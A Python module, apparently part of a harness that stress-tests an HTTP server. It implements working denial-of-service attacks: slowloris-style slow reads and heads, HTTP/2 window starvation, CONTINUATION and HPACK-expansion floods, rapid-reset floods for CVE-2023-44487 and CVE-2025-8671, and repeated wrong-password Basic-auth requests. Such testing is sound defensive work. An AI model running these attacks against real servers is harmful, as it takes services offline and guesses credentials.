"""What one attacking connection does, attack by attack. Each ends by an error of its connection, or never."""

from __future__ import annotations

import asyncio
import base64
import itertools
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

from harness.hostile.dialects import WINDOW_DEFAULT, WINDOW_MAX, Http1, Http2
from harness.hostile.wire import Wire
from harness.http2_frames import CONTINUATION, HEADERS, RST_STREAM, frame, window_update

CANCEL = struct.pack(">I", 8)
# A field of this many bytes fits the table of HPACK (4,096 bytes, of which 32 are overhead).
INDEXED_VALUE_BYTES = 4000


@dataclass
class Attacker:
    """One of many: its number, what the attack is told, and what became of all of them."""

    cleartext: tuple[str, int]
    secure: tuple[str, int]
    protocol: str
    number: int
    parameters: dict[str, Any]
    tally: Counter[str]
    finishing: asyncio.Event = field(default_factory=asyncio.Event)

    def __getitem__(self, name: str) -> Any:
        return self.parameters[name]

    async def connect(self, **options: Any) -> Wire:
        """A connection that speaks the attack's protocol."""
        alpn = {"tls": "http/1.1", "h2": "h2"}.get(self.protocol)
        wire = await Wire.connect(self.secure if alpn else self.cleartext, alpn=alpn, **options)
        self.tally["connected"] += 1
        return wire

    @property
    def speaks_http2(self) -> bool:
        """Whether there are streams."""
        return self.protocol in ("h2", "h2c")

    async def dialect(self, wire: Wire, **windows: int) -> Http1 | Http2:
        """How it speaks on a connection; in HTTP/2 it has greeted, with these windows."""
        spoken = Http2(wire, self.tally, **windows) if self.speaks_http2 else Http1(wire, self.tally)
        await spoken.greet()
        return spoken


async def until_first_ends(*works: Awaitable[None]) -> None:
    """Runs all of them until one ends, whose error is raised; the others are given up."""
    tasks = [asyncio.ensure_future(work) for work in works]
    try:
        done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def hear(spoken: Http1 | Http2) -> None:
    """Takes whatever comes."""
    while True:
        await spoken.take()


async def hear_nothing(wire: Wire) -> None:
    """Takes whatever comes, and acknowledges none of it."""
    while True:
        await wire.take()


async def for_ever() -> None:
    """Waits without end."""
    await asyncio.Event().wait()


# Slow in reading


def targets_of(attacker: Attacker) -> list[str]:
    """What it asks for: the `targets` in turn, each attacker from another on; `streams` of them in HTTP/2."""
    targets = attacker["targets"]
    first = attacker.number % len(targets)
    count = attacker["streams"] if attacker.speaks_http2 else 1
    return [targets[(first + number) % len(targets)] for number in range(count)]


async def read_slowly(attacker: Attacker) -> None:
    """Asks, then takes `bytes` from the kernel every `pause` seconds, none if that is 0.

    In HTTP/2 there are `streams` requests, and the windows are as large as they can be, so that it is TCP
    which holds the responses up.
    """
    wire = await attacker.connect(receive_buffer=2304)
    try:
        spoken = await attacker.dialect(wire, initial_window=WINDOW_MAX, connection_window=WINDOW_MAX)
        await spoken.ask(targets_of(attacker))
        if not attacker["bytes"]:
            await for_ever()
        while True:
            await asyncio.sleep(attacker["pause"])
            await wire.take(attacker["bytes"])
    finally:
        wire.close()


async def read_at_once(attacker: Attacker) -> None:
    """No attack: asks for the same as `read_slowly`, reads all of it as fast as it comes, and goes."""
    wire = await attacker.connect()
    try:
        spoken = await attacker.dialect(wire, initial_window=WINDOW_MAX, connection_window=WINDOW_MAX)
        await spoken.ask(targets_of(attacker))
        while not spoken.is_whole:
            await spoken.take(1 << 20)
        attacker.tally["whole"] += 1
    finally:
        wire.close()
    await for_ever()


async def read_steadily(attacker: Attacker) -> None:
    """Reads one response at a rate until told to finish, then what is left of it; tells whether all came."""
    rates, targets = attacker["rates"], attacker["targets"]
    turn, place = divmod(attacker.number, len(rates))
    rate = rates[place]
    wire = await attacker.connect(segment=1460)
    try:
        spoken = await attacker.dialect(wire)
        await spoken.ask([targets[(place + turn) % len(targets)]])
        step, ungranted = rate // 8, 0
        loop = asyncio.get_running_loop()
        due = loop.time()
        while not spoken.is_whole:
            if not attacker.finishing.is_set():
                due = max(due + 1 / 8, loop.time() - 1)
                await asyncio.sleep(max(0.0, due - loop.time()))
            ungranted += await spoken.take(65536 if attacker.finishing.is_set() else step)
            if ungranted >= step and not spoken.is_whole:
                await spoken.grant(ungranted)
                ungranted = 0
        attacker.tally["whole"] += 1
    finally:
        wire.close()
    await for_ever()


# Windows


async def withhold_stream_windows(attacker: Attacker) -> None:
    """Asks with windows of 0, then gives each of the `streams` a byte of window every `pause` seconds."""
    wire = await attacker.connect()
    try:
        spoken = Http2(wire, attacker.tally, initial_window=0, connection_window=WINDOW_MAX)
        await spoken.greet()
        await spoken.ask([attacker["target"]] * attacker["streams"])

        async def trickle() -> None:
            while True:
                await asyncio.sleep(attacker["pause"])
                await wire.send(b"".join(window_update(stream, 1) for stream in spoken.open_streams))

        await until_first_ends(hear(spoken), trickle())
    finally:
        wire.close()


async def withhold_connection_window(attacker: Attacker) -> None:
    """Asks with the largest windows for streams, and never widens the connection's."""
    wire = await attacker.connect()
    try:
        spoken = Http2(wire, attacker.tally, initial_window=WINDOW_MAX, connection_window=WINDOW_DEFAULT)
        await spoken.greet()
        await spoken.ask([attacker["target"]] * attacker["streams"])
        await hear(spoken)
    finally:
        wire.close()


# Uploads


async def upload_and_stall(attacker: Attacker) -> None:
    """Begins bodies of `length` bytes, sends `bytes` of each, then one more every `pause` seconds."""
    wire = await attacker.connect()
    try:
        spoken = await attacker.dialect(wire)
        await spoken.settle()

        async def upload() -> None:
            streams = []
            for _ in range(attacker["streams"] if attacker.speaks_http2 else 1):
                streams.append(await spoken.begin_body(attacker["length"], attacker["target"]))
                await spoken.send_body(streams[-1], b"x" * attacker["bytes"])
                attacker.tally["bodies"] += 1
            while True:
                await asyncio.sleep(attacker["pause"])
                for stream in streams:
                    if not isinstance(spoken, Http2) or stream in spoken.open_streams:
                        await spoken.send_body(stream, b"x")

        await until_first_ends(hear(spoken), upload())
    finally:
        wire.close()


# Heads


async def send_head_slowly(attacker: Attacker) -> None:
    """Sends a head byte by byte."""
    wire = await attacker.connect()
    try:
        spoken = await attacker.dialect(wire)
        await spoken.settle()
        if isinstance(spoken, Http2):
            head = spoken.headers(spoken.encoder.encode([("x", "v" * 1000)]))
        else:
            head = b"GET /ping HTTP/1.1\r\nHost: test\r\nX: " + b"v" * 1000

        async def trickle() -> None:
            for number in range(len(head)):
                await wire.send(head[number : number + 1])
                await asyncio.sleep(attacker["pause"])
            await for_ever()

        await until_first_ends(hear_nothing(wire), trickle())
    finally:
        wire.close()


async def hold_large_head(attacker: Attacker) -> None:
    """Sends a head of `fields` fields of `bytes` each, all but its end."""
    wire = await attacker.connect()
    try:
        spoken = await attacker.dialect(wire)
        await spoken.settle()
        fields = [(f"x-{number}", "v" * (attacker["bytes"] - 8)) for number in range(attacker["fields"])]
        if isinstance(spoken, Http2):
            await wire.send(
                endless_head(b"".join(b"\0" + text(name) + text(value) for name, value in fields))
            )
        else:
            lines = "".join(f"{name}: {value}\r\n" for name, value in fields)
            await wire.send(f"GET /ping HTTP/1.1\r\nHost: test\r\n{lines}".encode())
        await hear_nothing(wire)
    finally:
        wire.close()


def endless_head(block: bytes) -> bytes:
    """HEADERS and CONTINUATION of stream 1, of which none says that it is the last."""
    pieces = [block[start : start + 16384] for start in range(0, len(block), 16384)]
    return b"".join(frame(CONTINUATION if i else HEADERS, 0, 1, piece) for i, piece in enumerate(pieces))


def text(string: str) -> bytes:
    """A string of HPACK, not Huffman-coded (RFC 7541, section 5.2)."""
    length = len(string)
    if length < 127:
        return bytes([length]) + string.encode()
    length, prefix = length - 127, b"\x7f"
    while length >= 128:
        prefix += bytes([length % 128 | 128])
        length //= 128
    return prefix + bytes([length]) + string.encode()


async def expand_headers(attacker: Attacker) -> None:
    """Puts one long field into the table of HPACK and names it `times` times in the head of each stream.

    Each name is a byte on the wire and 4,000 in memory. The bodies stay away, so that the heads are held.
    """
    wire = await attacker.connect()
    try:
        spoken = await attacker.dialect(wire)
        assert isinstance(spoken, Http2)
        pseudo = [(":method", "POST"), (":scheme", "http"), (":path", "/ping"), (":authority", "test")]
        block = b"".join(b"\0" + text(name) + text(value) for name, value in pseudo)
        inserted = b"\x40" + text("x") + text("v" * INDEXED_VALUE_BYTES)
        named = b"\xbe" * attacker["times"]
        heads = spoken.headers(block + inserted + named[1:], end=False)
        for _ in range(attacker["streams"] - 1):
            heads += spoken.headers(block + named, end=False)
        await wire.send(heads)
        await hear(spoken)
    finally:
        wire.close()


# Resets


async def make_you_reset(attacker: Attacker) -> None:
    """CVE-2025-8671: `count` requests, each followed by a window that overflows: the server resets each."""
    await reset_in_waves(attacker, lambda stream: window_update(stream, WINDOW_MAX))


async def reset_rapidly(attacker: Attacker) -> None:
    """CVE-2023-44487: `count` requests, each reset as soon as it is made."""
    await reset_in_waves(attacker, lambda stream: frame(RST_STREAM, 0, stream, CANCEL))


async def reset_in_waves(attacker: Attacker, ending: Callable[[int], bytes]) -> None:
    """Sends `wave` requests at a time and then what ends them, once over one connection, however that ends.

    In between it lets the server see them: those that come and go in one piece may never be looked at.
    """
    wire = await attacker.connect()
    try:
        spoken = await attacker.dialect(wire)
        assert isinstance(spoken, Http2)

        async def send() -> None:
            for _ in range(attacker["count"] // attacker["wave"]):
                first = 2 * spoken.streams + 1
                await wire.send(b"".join(spoken.request(attacker["target"]) for _ in range(attacker["wave"])))
                await asyncio.sleep(attacker["pause"])
                streams = range(first, 2 * spoken.streams, 2)
                await wire.send(b"".join(ending(stream) for stream in streams))
                attacker.tally["requests"] += len(streams)
                await asyncio.sleep(attacker["pause"])
            await for_ever()

        await until_first_ends(hear(spoken), send())
    except (OSError, EOFError):
        attacker.tally["refused"] += 1
    finally:
        wire.close()
    await for_ever()


# Asking again and again


async def ask_again(attacker: Attacker) -> None:
    """Asks for `target` without end, every `pause` seconds, with `fields`; each response is read first.

    `{}` in them is a number that no other request has, and `{address}` an address. A `user` gives a wrong
    password, another one each time.
    """
    wire = await attacker.connect()
    try:
        for request in itertools.count():
            number = attacker.number << 32 | request
            last = (attacker.number << 12 | request) & 0xFFFFFF
            address = ".".join(str(byte) for byte in (11, *last.to_bytes(3, "big")))
            lines = [f"GET {attacker['target']} HTTP/1.1", "Host: test", *attacker["fields"]]
            if attacker["user"]:
                password = base64.b64encode(f"{attacker['user']}:{number}".encode()).decode()
                lines.append(f"Authorization: Basic {password}")
            lines += ["", ""]
            text = "\r\n".join(lines).replace("{}", str(number)).replace("{address}", address)
            await wire.send(text.encode())
            spoken = Http1(wire, attacker.tally)
            while not spoken.is_whole:
                await spoken.take()
            await asyncio.sleep(attacker["pause"])
    finally:
        wire.close()


# Saying nothing


async def say_nothing(attacker: Attacker) -> None:
    """Connects, and that is all."""
    wire = await attacker.connect()
    try:
        await hear_nothing(wire)
    finally:
        wire.close()


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        read_slowly,
        read_at_once,
        read_steadily,
        withhold_stream_windows,
        withhold_connection_window,
        upload_and_stall,
        send_head_slowly,
        hold_large_head,
        expand_headers,
        make_you_reset,
        reset_rapidly,
        ask_again,
        say_nothing,
    )
}
